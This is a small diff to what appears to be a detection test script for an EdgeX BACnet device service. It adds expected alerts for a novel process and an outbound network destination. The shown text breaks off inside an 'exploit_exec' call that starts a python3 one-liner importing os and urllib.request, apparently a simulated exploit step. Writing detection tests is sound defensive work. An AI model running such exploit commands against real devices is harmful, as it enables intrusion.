@@ -3,6 +3,8 @@
 # expect: detector=process.novel|process.origin entity=edgex-device-bacnet
 # also: detector=network.client entity=edgex-device-bacnet peer=198.51.100.77
 # also: detector=network.destination entity=edgex-device-bacnet peer=198.51.100.80
+# also: detector=process.novel entity=edgex-device-bacnet
+# also: detector=network.destination entity=edgex-device-bacnet peer=198.51.100.53
 set -euo pipefail
 source "$(dirname "$0")/common.sh"
 exploit_exec 49986 "python3 -c 'import os, urllib.request as u
